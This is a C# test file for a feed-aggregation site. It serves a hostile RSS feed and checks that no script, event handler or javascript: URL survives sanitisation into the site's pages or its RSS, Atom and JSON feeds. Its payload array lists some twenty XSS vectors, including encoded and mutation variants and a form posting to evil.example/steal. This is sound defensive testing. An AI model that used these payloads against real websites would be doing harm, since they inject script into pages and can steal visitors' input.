using System.Text;
using System.Text.Json;
using System.Xml.Linq;
using AngleSharp.Dom;
using AngleSharp.Html.Parser;
using Clipping.Contributors;
using Clipping.Storage;
using Clipping.Tests.TestSupport;
using Microsoft.Extensions.DependencyInjection;

namespace Clipping.Tests.Safety;

/// <summary>A feed full of script injection: none of it reaches the page or the combined feeds.</summary>
public sealed class XssTests
{
    // Classic vectors and their encoded variants, as a hostile blog would publish them inside its posts.
    private static readonly string[] Vectors =
    [
        "<script>alert('s1')</script>",
        "<img src=x onerror=alert('s2')>",
        "<a href=\"javascript:alert('s3')\">j</a>",
        "<a href=\"JaVaScRiPt:alert('s4')\">j</a>",
        "<a href=\"jav&#x09;ascript:alert('s5')\">j</a>",
        "<a href=\"&#106;avascript:alert('s6')\">j</a>",
        "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgnczcnKTwvc2NyaXB0Pg==\">d</a>",
        "<svg onload=alert('s8')><circle r=1 /></svg>",
        "<svg><script>alert('s9')</script></svg>",
        "<div style=\"background:url(javascript:alert('s10'))\">c</div>",
        "<div style=\"width: expression(alert('s11'))\">e</div>",
        "<base href=\"https://evil.example/\">",
        "<form action=\"https://evil.example/steal\"><input name=p><button>go</button></form>",
        "<iframe src=\"https://evil.example/\"></iframe>",
        "<object data=\"https://evil.example/x.swf\"></object><embed src=\"https://evil.example/x.swf\">",
        "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example/\">",
        "<body onload=alert('s12')>",
        "<details open ontoggle=alert('s13')>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert('s14')></style></mglyph></table></mtext></math>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert('s15')>\">",
        "<a href=\"vbscript:msgbox('s16')\">v</a>",
        "<link rel=stylesheet href=\"https://evil.example/x.css\">",
    ];

    [Fact]
    public async Task Nothing_executable_survives_into_the_page_or_the_feeds()
    {
        var items = string.Concat(Vectors.Select((v, i) =>
            $"<item><title>Post {i} &lt;script&gt;alert('t{i}')&lt;/script&gt;</title><link>https://hostile.example/{i}</link><guid>h{i}</guid>" +
            $"<pubDate>Mon, 18 Oct 2010 07:{i:00}:00 +0000</pubDate><category>Big Society</category>" +
            $"<description><![CDATA[<p>Before {i}</p>{v}<p>After {i}</p>]]></description></item>"));
        var feed = Encoding.UTF8.GetBytes($"<rss version=\"2.0\"><channel><title>Hostile</title><link>https://hostile.example/</link>{items}</channel></rss>");

        await using var server = await FeedServer.StartAsync();
        server.Serve("/feed", feed, "application/rss+xml");
        await using var site = await SiteUnderTest.StartAsync();
        var url = server.UrlOf("/feed").AbsoluteUri;
        await site.Services.GetRequiredService<IClippingStore>().AddContributorAsync(new Contributor(ContributorIds.ForFeed(url), "Hostile <b>name</b>",
            "javascript:alert('site')", url, ContributorStatus.Approved, FeedMode.TaggedPosts, null, site.Clock.GetUtcNow(), FeedState.New), CancellationToken.None);
        (await site.Admin.PostAsync("manage/refresh", null)).EnsureSuccessStatusCode();

        var parser = new HtmlParser();
        var page = parser.ParseDocument(await site.Http.GetStringAsync(""));
        Assert.Equal(Vectors.Length, page.QuerySelectorAll("article.clipping").Length);
        // RSS titles may carry markup, so the parser reads them as HTML and keeps only their text.
        Assert.All(page.QuerySelectorAll("article.clipping h4"), h => Assert.StartsWith("Post ", h.TextContent.Trim(), StringComparison.Ordinal));
        AssertInert(page.DocumentElement, "the page");
        AssertInert(parser.ParseDocument(await site.Http.GetStringAsync("status")).DocumentElement, "the status page");
        foreach (var path in new[] { "discussed?days=365", "weekly", "archive", $"contributors/{ContributorIds.ForFeed(url)}" })
        {
            AssertInert(parser.ParseDocument(await site.Http.GetStringAsync(path)).DocumentElement, path);
        }
        var weeks = parser.ParseDocument(await site.Http.GetStringAsync("weekly")).QuerySelectorAll("nav.weeks a").Select(a => a.GetAttribute("href")!).ToList();
        Assert.NotEmpty(weeks);
        foreach (var week in weeks) AssertInert(parser.ParseDocument(await site.Http.GetStringAsync(week.TrimStart('/'))).DocumentElement, week);

        // The feeds carry each post's HTML as text; what a feed reader would render is that HTML.
        var rss = XDocument.Parse(await site.Http.GetStringAsync("rss.xml"));
        var atom = XDocument.Parse(await site.Http.GetStringAsync("atom.xml"));
        var json = JsonDocument.Parse(await site.Http.GetStringAsync("feed.json"));
        var bodies = rss.Descendants("description").Skip(1).Select(d => d.Value)
            .Concat(atom.Descendants(XName.Get("content", "http://www.w3.org/2005/Atom")).Select(c => c.Value))
            .Concat(json.RootElement.GetProperty("items").EnumerateArray().Select(i => i.GetProperty("content_html").GetString()!))
            .ToList();
        Assert.Equal(3 * Vectors.Length, bodies.Count);
        foreach (var body in bodies)
        {
            var fragment = parser.ParseDocument("<!DOCTYPE html><html><body>" + body + "</body></html>");
            AssertInert(fragment.Body!, "a feed item");
            Assert.Contains("After", fragment.Body!.TextContent, StringComparison.Ordinal);
        }
        Assert.DoesNotContain(atom.Descendants(XName.Get("uri", "http://www.w3.org/2005/Atom")), u => u.Value.StartsWith("javascript", StringComparison.OrdinalIgnoreCase));
    }

    private static readonly string[] ActiveElements = ["script", "iframe", "object", "embed", "form", "input", "base", "meta[http-equiv]", "style:not(head style)", "math", "link:not([rel=stylesheet][href='/site.css']):not([rel=alternate]):not([rel=icon][href^='/favicon.'])"];

    /// <summary>The pictures the site draws itself, each where it belongs: a feed's strip of runs, a chart of months.</summary>
    private static bool IsOwnPicture(IElement svg) =>
        (svg.ClassList.Contains("run-strip") && svg.ParentElement is { LocalName: "td" } cell && cell.GetAttribute("data-label") == "Last runs")
        || (svg.ClassList.Contains("chart") && svg.ParentElement?.ParentElement is { LocalName: "figure" } figure && figure.ClassList.Contains("month-chart"));

    /// <summary>
    /// No element that runs or loads code, no event handler, no script-bearing URL, no inline style. SVG only as the
    /// site's own pictures, drawn of shapes and titles alone.
    /// </summary>
    private static void AssertInert(IElement root, string where)
    {
        foreach (var svg in root.QuerySelectorAll("svg"))
        {
            Assert.True(IsOwnPicture(svg), $"{where}: found svg: {svg.OuterHtml}");
            Assert.All(svg.QuerySelectorAll("*"), e => Assert.Contains(e.LocalName, (string[])["rect", "g", "title", "line", "text"]));
        }
        foreach (var selector in ActiveElements)
        {
            Assert.True(root.QuerySelector(selector) is null, $"{where}: found {selector}: {root.QuerySelector(selector)?.OuterHtml}");
        }
        foreach (var element in root.QuerySelectorAll("*"))
        {
            foreach (var attribute in element.Attributes)
            {
                Assert.False(attribute.Name.StartsWith("on", StringComparison.OrdinalIgnoreCase), $"{where}: {element.LocalName} has {attribute.Name}");
                Assert.False(attribute.Name == "style", $"{where}: {element.LocalName} has a style attribute");
                if (attribute.Name is "href" or "src" or "action" or "formaction" or "xlink:href")
                {
                    var value = new string(attribute.Value.Where(c => !char.IsWhiteSpace(c) && !char.IsControl(c)).ToArray());
                    Assert.True(value.StartsWith("https://", StringComparison.OrdinalIgnoreCase) || value.StartsWith("http://", StringComparison.OrdinalIgnoreCase)
                        || value.StartsWith('/') || value.StartsWith('#') || value.StartsWith("mailto:", StringComparison.OrdinalIgnoreCase),
                        $"{where}: {element.LocalName} {attribute.Name}=\"{attribute.Value}\"");
                }
            }
        }
    }
}
